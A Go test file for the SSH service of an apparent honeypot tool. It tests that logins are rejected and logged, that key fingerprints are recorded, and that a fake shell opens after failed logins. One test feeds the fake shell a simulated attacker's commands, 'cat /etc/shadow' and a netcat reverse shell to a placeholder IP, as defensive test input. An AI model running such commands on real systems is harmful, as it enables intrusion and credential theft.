package sshd

import (
	"bufio"
	"context"
	"net"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/crypto/ssh"

	"github.com/0tSystemsPublicRepos/hpti/internal/config"
	"github.com/0tSystemsPublicRepos/hpti/internal/session"
)

var sharedKeyPath string

func TestMain(m *testing.M) {
	dir, err := os.MkdirTemp("", "sshd-test")
	if err != nil {
		panic(err)
	}
	sharedKeyPath = filepath.Join(dir, "host_key")
	code := m.Run()
	os.RemoveAll(dir)
	os.Exit(code)
}

type harness struct {
	srv     *Server
	addr    string
	records chan session.Record
}

func newHarness(t *testing.T, shellAfter int) *harness {
	t.Helper()
	cfg := config.Defaults().SSH
	cfg.HostKeyPath = sharedKeyPath
	cfg.ShellAfterFailures = shellAfter
	cfg.SessionTimeout = 10

	records := make(chan session.Record, 4)
	tracker := session.NewTracker(nil, nil, nil, session.HandoffFunc(func(r session.Record) { records <- r }))
	srv, err := New(cfg, tracker)
	require.NoError(t, err)

	ln, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	t.Cleanup(func() { ln.Close() })

	go func() {
		for {
			conn, err := ln.Accept()
			if err != nil {
				return
			}
			go func() {
				srv.HandleConn(context.Background(), conn)
				conn.Close()
			}()
		}
	}()

	return &harness{srv: srv, addr: ln.Addr().String(), records: records}
}

func (h *harness) clientConfig(user, password string) *ssh.ClientConfig {
	return &ssh.ClientConfig{
		User:            user,
		Auth:            []ssh.AuthMethod{ssh.Password(password)},
		HostKeyCallback: ssh.FixedHostKey(h.srv.HostKey()),
		Timeout:         5 * time.Second,
	}
}

func (h *harness) waitRecord(t *testing.T) session.Record {
	t.Helper()
	select {
	case rec := <-h.records:
		return rec
	case <-time.After(5 * time.Second):
		t.Fatal("session was not handed off")
	}
	return session.Record{}
}

func TestSSH_PasswordAlwaysRejected(t *testing.T) {
	h := newHarness(t, 0)

	_, err := ssh.Dial("tcp", h.addr, h.clientConfig("root", "toor"))
	require.Error(t, err)
	assert.Contains(t, err.Error(), "unable to authenticate")

	rec := h.waitRecord(t)
	assert.Equal(t, session.ProtocolSSH, rec.Protocol)
	require.NotEmpty(t, rec.AuthAttempts)
	a := rec.AuthAttempts[0]
	assert.Equal(t, "root", a.Username)
	assert.Equal(t, session.AuthPassword, a.Method)
	require.NotNil(t, a.Password)
	assert.Equal(t, "toor", *a.Password)
	for _, attempt := range rec.AuthAttempts {
		assert.False(t, attempt.Success)
	}
	assert.False(t, rec.Authenticated)
	assert.Empty(t, rec.Commands)
}

func TestSSH_PublicKeyRecorded(t *testing.T) {
	h := newHarness(t, 0)

	clientKey, err := LoadOrGenerateHostKey("")
	require.NoError(t, err)
	cfg := h.clientConfig("deploy", "")
	cfg.Auth = []ssh.AuthMethod{ssh.PublicKeys(clientKey)}

	_, err = ssh.Dial("tcp", h.addr, cfg)
	require.Error(t, err)

	rec := h.waitRecord(t)
	require.NotEmpty(t, rec.AuthAttempts)
	a := rec.AuthAttempts[0]
	assert.Equal(t, session.AuthPublicKey, a.Method)
	assert.Nil(t, a.Password)
	require.NotNil(t, a.KeyFingerprint)
	assert.Equal(t, ssh.FingerprintSHA256(clientKey.PublicKey()), *a.KeyFingerprint)
	assert.Equal(t, "ssh-rsa", a.KeyType)
}

func readUntil(t *testing.T, r *bufio.Reader, suffix string) string {
	t.Helper()
	var sb strings.Builder
	for !strings.HasSuffix(sb.String(), suffix) {
		b, err := r.ReadByte()
		require.NoError(t, err, "got so far: %q", sb.String())
		sb.WriteByte(b)
	}
	return sb.String()
}

func TestSSH_ShellAfterFailures(t *testing.T) {
	h := newHarness(t, 1)

	client, err := ssh.Dial("tcp", h.addr, h.clientConfig("admin", "admin"))
	require.NoError(t, err)
	defer client.Close()

	sess, err := client.NewSession()
	require.NoError(t, err)
	stdin, err := sess.StdinPipe()
	require.NoError(t, err)
	stdout, err := sess.StdoutPipe()
	require.NoError(t, err)
	require.NoError(t, sess.Shell())

	r := bufio.NewReader(stdout)
	assert.Equal(t, "root@ubuntu-server:~# ", readUntil(t, r, "# "))

	stdin.Write([]byte("whoami\n"))
	assert.Equal(t, "root\nroot@ubuntu-server:~# ", readUntil(t, r, "# "))

	stdin.Write([]byte("cat /etc/shadow\n"))
	assert.Equal(t, "Permission denied\nroot@ubuntu-server:~# ", readUntil(t, r, "# "))

	stdin.Write([]byte("nc -e /bin/sh 1.2.3.4 4444\n"))
	assert.Equal(t, "bash: nc: command not found\nroot@ubuntu-server:~# ", readUntil(t, r, "# "))

	stdin.Write([]byte("exit\n"))
	assert.Equal(t, "logout\n", readUntil(t, r, "\n"))
	sess.Wait()

	rec := h.waitRecord(t)
	require.Len(t, rec.AuthAttempts, 1)
	assert.False(t, rec.AuthAttempts[0].Success)
	assert.False(t, rec.Authenticated)
	require.Len(t, rec.Commands, 4)
	assert.Equal(t, "whoami", rec.Commands[0].RawText)
	assert.Equal(t, "root\n", rec.Commands[0].Response)
	assert.Equal(t, "exit", rec.Commands[3].RawText)
}

func TestSSH_Exec(t *testing.T) {
	h := newHarness(t, 1)

	client, err := ssh.Dial("tcp", h.addr, h.clientConfig("root", "123456"))
	require.NoError(t, err)
	defer client.Close()

	sess, err := client.NewSession()
	require.NoError(t, err)
	out, err := sess.Output("uname -a")
	require.NoError(t, err)
	assert.True(t, strings.HasPrefix(string(out), "Linux ubuntu 5.4.0-42-generic"))

	client.Close()
	rec := h.waitRecord(t)
	require.Len(t, rec.Commands, 1)
	assert.Equal(t, "uname -a", rec.Commands[0].RawText)
}

func TestSSH_SubsystemRefused(t *testing.T) {
	h := newHarness(t, 1)

	client, err := ssh.Dial("tcp", h.addr, h.clientConfig("root", "root"))
	require.NoError(t, err)
	defer client.Close()

	sess, err := client.NewSession()
	require.NoError(t, err)
	assert.Error(t, sess.RequestSubsystem("sftp"))
}

func TestLoadOrGenerateHostKey_Persists(t *testing.T) {
	path := filepath.Join(t.TempDir(), "keys", "host_rsa")
	first, err := LoadOrGenerateHostKey(path)
	require.NoError(t, err)
	second, err := LoadOrGenerateHostKey(path)
	require.NoError(t, err)
	assert.Equal(t, ssh.FingerprintSHA256(first.PublicKey()), ssh.FingerprintSHA256(second.PublicKey()))

	info, err := os.Stat(path)
	require.NoError(t, err)
	assert.Equal(t, os.FileMode(0600), info.Mode().Perm())
}

func TestServerVersion(t *testing.T) {
	s := &Server{cfg: config.SSHConfig{ServiceConfig: config.ServiceConfig{Banner: "OpenSSH_7.4"}}}
	assert.Equal(t, "SSH-2.0-OpenSSH_7.4", s.serverVersion())

	s.cfg.Banner = "SSH-2.0-OpenSSH_8.2p1 Ubuntu-4ubuntu0.1"
	assert.Equal(t, "SSH-2.0-OpenSSH_8.2p1 Ubuntu-4ubuntu0.1", s.serverVersion())
}
